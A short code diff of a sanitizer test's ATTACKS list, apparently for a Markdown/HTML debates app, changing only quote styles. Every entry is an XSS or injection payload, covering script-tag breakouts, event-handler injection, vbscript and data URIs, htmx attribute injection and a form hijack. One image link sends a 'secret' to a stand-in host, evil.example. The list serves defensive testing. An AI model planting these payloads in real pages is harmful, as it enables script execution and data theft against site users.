@@ -14,7 +14,7 @@ ATTACKS = [
     "[x](data:text/html;base64,PHNjcmlwdD4=)",
     "[x](vbscript:msgbox(1))",
     "![x](https://evil.example/?q=secret)",
-    "![x](x \"onerror=alert(1)\")",
+    '![x](x "onerror=alert(1)")',
     "<iframe src=https://evil.example></iframe>",
     "<style>*{display:none}</style>",
     "<div hx-get='/x' hx-trigger='load'>x</div>",
@@ -22,8 +22,8 @@ ATTACKS = [
     "<template><b hx-swap-oob='true' id='controls'></b></template>",
     "<!-- --><form action=/debates/><button>x</button></form>",
     '[x](https://ok.example "a\\" onmouseover=alert(1) b=\\"")',
-    "```\"><script>alert(1)</script>\nx\n```",
-    "<https://ok.example/\"onclick=alert(1)>",
+    '```"><script>alert(1)</script>\nx\n```',
+    '<https://ok.example/"onclick=alert(1)>',
 ]
 
 
